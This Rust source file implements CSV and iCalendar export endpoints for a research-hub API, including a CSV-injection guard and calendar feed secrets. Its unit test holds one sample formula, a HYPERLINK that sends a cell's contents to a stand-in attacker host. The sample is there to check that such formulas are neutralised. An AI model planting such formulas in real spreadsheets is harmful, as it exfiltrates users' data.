//! File exports: `GET /api/v1/projects.csv`, an agreement's annual review
//! and a testing center's annual assessment for spreadsheets, and for
//! calendar apps `GET /api/v1/instruments/{id}/calendar.ics` and
//! `GET /api/v1/me/bookings.ics` — with a bearer token, or with the secret
//! of a calendar feed as `?token=` (calendar apps cannot send headers).

mod assessment;
mod billing;

use std::collections::HashMap;

use axum::extract::State;
use axum::http::header::{CONTENT_DISPOSITION, CONTENT_TYPE};
use axum::response::{IntoResponse, Response};
use iurhub_app::calendar_feeds::{self, FeedOf};
use iurhub_app::{Caller, instruments, projects, relations};
use serde::Deserialize;
use utoipa::IntoParams;

use crate::auth::Identity;
use crate::error::{ApiError, ApiResult};
use crate::graphql::ids::{Kind, decode, encode};
use crate::rest::projects::ProjectsCsvParams;
use crate::state::AppState;

pub use assessment::{
    __path_center_assessment_csv, __path_center_assessment_xlsx, center_assessment_csv,
    center_assessment_xlsx,
};
pub use billing::{
    __path_center_settlement_csv, __path_invoice_csv, SettlementParams, center_settlement_csv,
    invoice_csv,
};

/// Most rows one export holds.
pub const MAX_EXPORT_ROWS: usize = 10_000;

const HEADER: [&str; 14] = [
    "id",
    "title",
    "area",
    "status",
    "parties",
    "start_date",
    "end_date",
    "progress_percent",
    "items_done",
    "items_total",
    "overdue_items",
    "need_id",
    "capability_id",
    "updated_at",
];

#[utoipa::path(get, path = "/api/v1/projects.csv", tag = "projects", params(ProjectsCsvParams),
    security(("bearer" = [])),
    responses((status = 200, description = "UTF-8 CSV with a byte-order mark", content_type = "text/csv"),
        (status = 400, body = crate::rest::ErrorBody), (status = 401, body = crate::rest::ErrorBody)))]
/// GET /api/v1/projects.csv: the project list of `projects(filter, orderBy)`
/// with the same visibility, as UTF-8 CSV with a byte-order mark (so
/// spreadsheet software reads Chinese correctly); at most 10,000 rows.
pub async fn projects_csv(
    State(state): State<AppState>,
    identity: Identity,
    axum::extract::RawQuery(raw): axum::extract::RawQuery,
) -> ApiResult<Response> {
    let caller = identity.require()?;
    let params: ProjectsCsvParams = crate::rest::query::params(raw)?;
    let (filter, sort, descending, _) = params.into_query()?;
    let projects = projects::list_all(
        &state.app,
        caller,
        filter,
        sort,
        descending,
        MAX_EXPORT_ROWS,
    )
    .await?;
    let ids: Vec<i64> = projects.iter().map(|p| p.id).collect();
    let org_ids: Vec<i64> = projects.iter().flat_map(|p| p.party_ids.clone()).collect();
    let names: HashMap<i64, String> = relations::organizations(&state.app, &org_ids)
        .await?
        .into_iter()
        .map(|o| (o.id, o.name))
        .collect();
    let today = projects::today();
    let mut overdue: HashMap<i64, usize> = HashMap::new();
    for item in projects::items_of(&state.app, &ids).await? {
        if item.is_overdue(today) {
            *overdue.entry(item.project_id).or_default() += 1;
        }
    }

    let mut out = Csv::new();
    out.row(HEADER)?;
    for p in &projects {
        let parties = p
            .party_ids
            .iter()
            .filter_map(|id| names.get(id).cloned())
            .collect::<Vec<_>>()
            .join("; ");
        let date = |d: Option<chrono::NaiveDate>| d.map(|d| d.to_string()).unwrap_or_default();
        out.row([
            encode(Kind::Project, p.id),
            p.title.clone(),
            p.area.as_str().to_owned(),
            p.status.as_str().to_owned(),
            parties,
            date(p.start_date),
            date(p.end_date),
            p.progress.to_string(),
            p.items_done.to_string(),
            p.items_total.to_string(),
            overdue.get(&p.id).copied().unwrap_or(0).to_string(),
            p.need_id
                .map(|id| encode(Kind::Need, id))
                .unwrap_or_default(),
            p.capability_id
                .map(|id| encode(Kind::Capability, id))
                .unwrap_or_default(),
            p.updated_at.to_rfc3339(),
        ])?;
    }
    Ok(csv_response("projects.csv", out.finish()?))
}

/// The parameters of an agreement's annual review.
#[derive(Deserialize, IntoParams)]
#[serde(deny_unknown_fields)]
#[into_params(parameter_in = Query)]
pub struct ReviewParams {
    /// The calendar year (China Standard Time), 2000 to 2100.
    pub year: i32,
}

const REVIEW_HEADER: [&str; 7] = [
    "section", "key", "metric", "unit", "target", "actual", "percent",
];

#[utoipa::path(get, path = "/api/v1/agreements/{id}/review.csv", tag = "agreements",
    params(("id" = String, Path, description = "Global id of the agreement"), ReviewParams),
    security(("bearer" = [])),
    responses((status = 200, description = "UTF-8 CSV with a byte-order mark", content_type = "text/csv"),
        (status = 400, body = crate::rest::ErrorBody), (status = 401, body = crate::rest::ErrorBody),
        (status = 404, body = crate::rest::ErrorBody)))]
/// GET /api/v1/agreements/{id}/review.csv?year=: the annual review of a
/// framework agreement (年度合作总结) — the plan's targets against their
/// actuals, then the year's figures by organisation and by month — one row
/// per number (`section, key, metric, unit, target, actual, percent`), the
/// rows of `Agreement.review(year:).lines`. For whoever sees the agreement.
pub async fn agreement_review_csv(
    State(state): State<AppState>,
    identity: Identity,
    axum::extract::Path(id): axum::extract::Path<String>,
    axum::extract::RawQuery(raw): axum::extract::RawQuery,
) -> ApiResult<Response> {
    let caller = identity.require()?;
    let p: ReviewParams = crate::rest::query::params(raw)?;
    let id = decode("id", Kind::Agreement, &id).map_err(|_| ApiError::not_found("agreement"))?;
    let review = iurhub_app::stats::review(&state.app, caller, id, p.year).await?;
    let mut out = Csv::new();
    out.row(REVIEW_HEADER)?;
    let number = |v: f64| {
        if v.fract() == 0.0 {
            format!("{v:.0}")
        } else {
            v.to_string()
        }
    };
    for line in review.lines() {
        out.row([
            line.section.to_owned(),
            line.key,
            line.metric.to_owned(),
            line.unit.as_str().to_owned(),
            line.target.map(|t| t.to_string()).unwrap_or_default(),
            number(line.actual),
            line.percent.map(number).unwrap_or_default(),
        ])?;
    }
    Ok(csv_response(
        &format!("agreement-review-{}.csv", p.year),
        out.finish()?,
    ))
}

/// A file to download: `body` as `content_type`, saved as `filename` (an
/// ASCII name the service chose).
fn attachment(content_type: &str, filename: &str, body: Vec<u8>) -> Response {
    (
        [
            (CONTENT_TYPE, content_type.to_owned()),
            (
                CONTENT_DISPOSITION,
                format!("attachment; filename=\"{filename}\""),
            ),
        ],
        body,
    )
        .into_response()
}

/// A CSV file to download ([`attachment`]).
fn csv_response(filename: &str, body: Vec<u8>) -> Response {
    attachment("text/csv; charset=utf-8", filename, body)
}

/// Fen as yuan with two decimals (`1300.00`).
fn yuan(fen: i64) -> String {
    let sign = if fen < 0 { "-" } else { "" };
    format!("{sign}{}.{:02}", fen.abs() / 100, fen.abs() % 100)
}

/// Hours as the GraphQL answer gives them, without a trailing `.0`.
fn hours(v: f64) -> String {
    if v.fract() == 0.0 {
        format!("{v:.0}")
    } else {
        v.to_string()
    }
}

/// A CSV file for spreadsheets (UTF-8 with a byte-order mark), every cell
/// written through [`spreadsheet_safe`]. Every CSV the service writes goes
/// through it.
struct Csv(csv::Writer<Vec<u8>>);

impl Csv {
    fn new() -> Csv {
        Csv(csv::Writer::from_writer("\u{feff}".as_bytes().to_vec()))
    }

    fn row<I, S>(&mut self, cells: I) -> ApiResult<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.0
            .write_record(
                cells
                    .into_iter()
                    .map(|c| spreadsheet_safe(c.as_ref()).into_owned()),
            )
            .map_err(ApiError::internal)
    }

    fn finish(self) -> ApiResult<Vec<u8>> {
        self.0
            .into_inner()
            .map_err(|e| ApiError::internal(e.into_error()))
    }
}

/// A cell a spreadsheet shows as text, never runs as a formula (OWASP, CSV
/// injection): a cell that starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return (or the full-width `＝ ＋ － ＠`, which some spreadsheets
/// read as their ASCII twins) gets a leading apostrophe, so
/// `=HYPERLINK(…)` reads as the text `'=HYPERLINK(…)`.
fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    const TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
    if cell.starts_with(TRIGGERS) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// Escapes a TEXT value (RFC 5545 §3.3.11). Control characters (NUL, C1
/// controls such as U+0085) are not allowed in a content line and are
/// dropped; line and paragraph separators become line breaks.
fn ics_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            ';' => out.push_str("\\;"),
            ',' => out.push_str("\\,"),
            '\n' | '\u{2028}' | '\u{2029}' => out.push_str("\\n"),
            '\t' => out.push(' '),
            c if c.is_control() => {}
            c => out.push(c),
        }
    }
    out
}

/// Folds a content line at 75 octets (RFC 5545 §3.1), on character boundaries.
fn ics_line(out: &mut String, line: &str) {
    let mut width = 0;
    for c in line.chars() {
        let n = c.len_utf8();
        if width + n > 75 {
            out.push_str("\r\n ");
            width = 1;
        }
        out.push(c);
        width += n;
    }
    out.push_str("\r\n");
}

fn ics_time(t: chrono::DateTime<chrono::Utc>) -> String {
    t.format("%Y%m%dT%H%M%SZ").to_string()
}

/// The start of a calendar (RFC 5545) named `name`.
fn ics_begin(name: &str) -> String {
    let mut out = String::new();
    for line in [
        "BEGIN:VCALENDAR",
        "VERSION:2.0",
        "PRODID:-//iurhub//testing center//EN",
        "CALSCALE:GREGORIAN",
        "METHOD:PUBLISH",
    ] {
        ics_line(&mut out, line);
    }
    ics_line(&mut out, &format!("X-WR-CALNAME:{}", ics_text(name)));
    out
}

/// One event of a booking.
fn ics_event(
    out: &mut String,
    b: &iurhub_domain::records::instruments::Booking,
    instrument: &iurhub_domain::records::instruments::Instrument,
    summary: &str,
    description: Option<&str>,
    now: chrono::DateTime<chrono::Utc>,
) {
    ics_line(out, "BEGIN:VEVENT");
    ics_line(out, &format!("UID:booking-{}@iurhub", b.id));
    ics_line(out, &format!("DTSTAMP:{}", ics_time(now)));
    ics_line(out, &format!("DTSTART:{}", ics_time(b.start)));
    ics_line(out, &format!("DTEND:{}", ics_time(b.end)));
    ics_line(out, &format!("SUMMARY:{}", ics_text(summary)));
    if let Some(d) = description {
        ics_line(out, &format!("DESCRIPTION:{}", ics_text(d)));
    }
    if !instrument.location.is_empty() {
        ics_line(out, &format!("LOCATION:{}", ics_text(&instrument.location)));
    }
    let status = match b.status {
        iurhub_domain::BookingStatus::Requested => "TENTATIVE",
        _ => "CONFIRMED",
    };
    ics_line(out, &format!("STATUS:{status}"));
    ics_line(out, "END:VEVENT");
}

/// The calendar of an instrument's approved bookings (RFC 5545).
pub fn calendar(
    instrument: &iurhub_domain::records::instruments::Instrument,
    bookings: &[iurhub_domain::records::instruments::Booking],
    now: chrono::DateTime<chrono::Utc>,
) -> String {
    let mut out = ics_begin(&instrument.name);
    let summary = format!("{} – booked", instrument.name);
    for b in bookings {
        ics_event(&mut out, b, instrument, &summary, None, now);
    }
    ics_line(&mut out, "END:VCALENDAR");
    out
}

/// The calendar of a user's own bookings (RFC 5545): instrument, status
/// and purpose.
pub fn my_calendar(
    bookings: &[(
        iurhub_domain::records::instruments::Booking,
        iurhub_domain::records::instruments::Instrument,
    )],
    now: chrono::DateTime<chrono::Utc>,
) -> String {
    let mut out = ics_begin("iurhub – my bookings");
    for (b, instrument) in bookings {
        let summary = format!("{} ({})", instrument.name, b.status.as_str());
        ics_event(&mut out, b, instrument, &summary, Some(&b.purpose), now);
    }
    ics_line(&mut out, "END:VCALENDAR");
    out
}

/// Bytes of randomness in a calendar feed secret (256 bits).
const FEED_TOKEN_BYTES: usize = 32;

/// A new calendar feed secret and the digest the database keeps of it. The
/// secret is never a JWT, so no bearer check accepts it.
pub fn new_feed_token() -> (String, String) {
    let token = format!("cal_{}", crate::auth::rest::random_token(FEED_TOKEN_BYTES));
    let digest = crate::auth::rest::digest(&token);
    (token, digest)
}

/// The path (with the secret) a calendar app subscribes to.
pub fn feed_url(of: FeedOf, token: &str) -> String {
    match of {
        FeedOf::Instrument(id) => format!(
            "/api/v1/instruments/{}/calendar.ics?token={token}",
            encode(Kind::Instrument, id)
        ),
        FeedOf::MyBookings => format!("/api/v1/me/bookings.ics?token={token}"),
    }
}

/// The parameters of the calendar routes.
#[derive(Deserialize, IntoParams, Default)]
#[serde(deny_unknown_fields)]
#[into_params(parameter_in = Query)]
pub struct CalendarParams {
    /// The secret of one of the user's calendar feeds (`createCalendarFeed`),
    /// for calendar apps that cannot send a bearer header. Without it the
    /// bearer token is required.
    #[param(max_length = 100)]
    pub token: Option<String>,
}

/// The user a calendar is fetched for: the feed's user when a feed secret is
/// given (resolved as they are now), otherwise the bearer token's.
async fn calendar_caller(
    state: &AppState,
    identity: Identity,
    p: CalendarParams,
    of: FeedOf,
) -> ApiResult<std::sync::Arc<Caller>> {
    match p.token {
        Some(token) => {
            let digest = crate::auth::rest::digest(token.trim());
            Ok(calendar_feeds::resolve(&state.app, &digest, of).await?)
        }
        None => Ok(identity.into_caller()?),
    }
}

fn ics_response(filename: &str, body: String) -> Response {
    (
        [
            (CONTENT_TYPE, "text/calendar; charset=utf-8".to_owned()),
            (
                CONTENT_DISPOSITION,
                format!("attachment; filename=\"{filename}\""),
            ),
            // The URL holds a secret: nobody in between keeps a copy.
            (
                axum::http::header::CACHE_CONTROL,
                "private, no-store".to_owned(),
            ),
        ],
        body,
    )
        .into_response()
}

#[utoipa::path(get, path = "/api/v1/instruments/{id}/calendar.ics", tag = "instruments",
    params(("id" = String, Path, description = "Global id of the instrument"), CalendarParams),
    security(("bearer" = []), ()),
    responses((status = 200, description = "iCalendar (RFC 5545)", content_type = "text/calendar"),
        (status = 400, body = crate::rest::ErrorBody), (status = 401, body = crate::rest::ErrorBody),
        (status = 404, body = crate::rest::ErrorBody)))]
/// GET /api/v1/instruments/{id}/calendar.ics: approved bookings from 90 days
/// back to the booking horizon, for calendar apps (signed-in users, or a
/// calendar feed secret for this instrument as `token`; events say
/// "booked", not who booked or why).
pub async fn instrument_calendar(
    State(state): State<AppState>,
    identity: Identity,
    axum::extract::Path(id): axum::extract::Path<String>,
    axum::extract::RawQuery(raw): axum::extract::RawQuery,
) -> ApiResult<Response> {
    let p: CalendarParams = crate::rest::query::params(raw)?;
    if p.token.is_none() {
        identity.require()?;
    }
    let id = decode("id", Kind::Instrument, &id).map_err(|_| ApiError::not_found("instrument"))?;
    calendar_caller(&state, identity, p, FeedOf::Instrument(id)).await?;
    let (instrument, bookings) = instruments::calendar(&state.app, id).await?;
    let now = chrono::Utc::now();
    Ok(ics_response(
        "calendar.ics",
        calendar(&instrument, &bookings, now),
    ))
}

#[utoipa::path(get, path = "/api/v1/me/bookings.ics", tag = "instruments",
    params(CalendarParams),
    security(("bearer" = []), ()),
    responses((status = 200, description = "iCalendar (RFC 5545)", content_type = "text/calendar"),
        (status = 400, body = crate::rest::ErrorBody), (status = 401, body = crate::rest::ErrorBody)))]
/// GET /api/v1/me/bookings.ics: the user's own bookings (requested, approved,
/// completed) from 90 days back to the booking horizon, with instrument,
/// status and purpose (the bearer token's user, or the user of a
/// personal calendar feed secret given as `token`).
pub async fn my_bookings_calendar(
    State(state): State<AppState>,
    identity: Identity,
    axum::extract::RawQuery(raw): axum::extract::RawQuery,
) -> ApiResult<Response> {
    let p: CalendarParams = crate::rest::query::params(raw)?;
    let caller = calendar_caller(&state, identity, p, FeedOf::MyBookings).await?;
    let bookings = calendar_feeds::my_bookings(&state.app, &caller).await?;
    Ok(ics_response(
        "bookings.ics",
        my_calendar(&bookings, chrono::Utc::now()),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn long_lines_fold_on_character_boundaries() {
        let mut out = String::new();
        let name = "扫描电子显微镜".repeat(6);
        ics_line(&mut out, &format!("SUMMARY:{name}"));
        for line in out.split("\r\n").filter(|l| !l.is_empty()) {
            assert!(line.len() <= 75, "{} octets", line.len());
        }
        let unfolded = out.replace("\r\n ", "");
        assert_eq!(unfolded, format!("SUMMARY:{name}\r\n"));
        assert_eq!(ics_text("a,b;c\\d\ne"), "a\\,b\\;c\\\\d\\ne");
    }

    #[test]
    fn calendar_text_drops_control_characters() {
        assert_eq!(
            ics_text("a\0b\u{85}c\r\nd\u{2028}e\u{1b}[31m"),
            "abc\\nd\\ne[31m"
        );
    }

    #[test]
    fn spreadsheet_cells_never_start_a_formula() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "＝1+1",
        ] {
            assert_eq!(spreadsheet_safe(cell), format!("'{cell}"));
        }
        for cell in ["轴承 bearing", "2026-12-06", "42", "", "a=b"] {
            assert_eq!(spreadsheet_safe(cell), cell);
        }
    }
}
